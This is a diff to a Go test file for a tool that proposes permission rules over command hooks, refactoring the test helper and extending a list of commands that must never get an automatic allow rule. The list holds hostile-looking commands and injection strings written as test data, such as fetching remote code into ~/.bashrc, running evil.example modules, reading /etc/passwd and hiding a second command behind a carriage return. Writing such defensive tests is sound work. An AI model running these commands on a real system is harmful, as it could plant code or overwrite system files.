@@ -17,14 +17,14 @@ import (
 
 // desk is a project on disk, a person's rules, and a Proposer over them.
 type desk struct {
-	t       *testing.T
+	t       testing.TB
 	project string
 	past    []*hook.Request
 	deny    map[string]bool // ids of past requests that were denied
 	*Proposer
 }
 
-func newDesk(t *testing.T, userRules string) *desk {
+func newDesk(t testing.TB, userRules string) *desk {
 	t.Helper()
 	dir, err := filepath.EvalSymlinks(t.TempDir())
 	if err != nil {
@@ -43,7 +43,7 @@ func newDesk(t *testing.T, userRules string) *desk {
 			t.Fatal(err)
 		}
 	}
-	d.Proposer = &Proposer{Book: rulebook.Open(cfg), Ended: func(_ context.Context, visit func(*hook.Request, hook.Outcome) bool) (bool, error) {
+	d.Proposer = NewProposer(rulebook.Open(cfg), func(_ context.Context, visit func(*hook.Request, hook.Outcome) bool) (bool, error) {
 		for _, r := range d.past {
 			outcome := hook.Allowed
 			if d.deny[r.ID] {
@@ -54,7 +54,7 @@ func newDesk(t *testing.T, userRules string) *desk {
 			}
 		}
 		return true, nil
-	}}
+	})
 	return d
 }
 
@@ -182,7 +182,7 @@ func TestNoProposal(t *testing.T) {
 		"psql -c 'select 1'", "sqlite3 db 'select 1'", "vim x", "sudo ls -l", "doas id", "su -c id", "env X=1 mytool", "xargs mytool", "ls | xargs mytool", "find . -name x -exec mytool {} +",
 		"npx cowsay", "npm exec x", "npm x cowsay", "pnpm dlx x", "yarn dlx x", "bunx x", "uvx x", "uv run x", "pipx run x", "docker run x", "ssh host ls", "kubectl exec pod -- id", "go run .", "go run evil.example/x@latest", "cargo run",
 		"git config user.name x", "git rebase -x make", "git submodule foreach ls", "gh alias set x y", "watch ls", "time -o x python3 y", "nohup python3 x &", "timeout 5 sh x", "nice node x", "parallel ls", "crontab x", "at now", "flock x ls",
-		"make deploy", "tee x", "dd if=a of=b", "busybox sh", "java -jar x", "ln -s / x",
+		"make deploy", "tee x", "dd if=a of=b", "patch -p1 -i x", "tar xf x.tar", "git apply x", "cp x ~/.bashrc", "cp x /usr/local/bin/x", "mytool ../x", "mytool --out=/etc/x", "mytool -o/etc/x", "curl -o ~/.bashrc https://x.example", "rsync x host:/etc", "mytool @/etc/passwd", "busybox sh", "java -jar x", "ln -s / x",
 		// what cannot be read with certainty
 		"eval mytool", "$TOOL x", "./run.sh", "/tmp/mytool x", "../mytool", "mytool $x", "mytool $(ls)", "mytool `ls`", "mytool x*", "mytool {a,b}", "mytool <<< x", "mytool <<EOF\nx\nEOF", "f() { mytool; }; f", "alias a=b; mytool",
 		"PATH=/tmp mytool", "LD_PRELOAD=x mytool", "GIT_SSH=x git fetch", "mytool\rrm x", "mytool \u202ex", "mytool \x00x", "mytool # x\\\nrm x", "mytool >&--x", "mytool > $OUT", "mytool > /etc/passwd", "mytool > ../x", "mytool < \"$X\"",
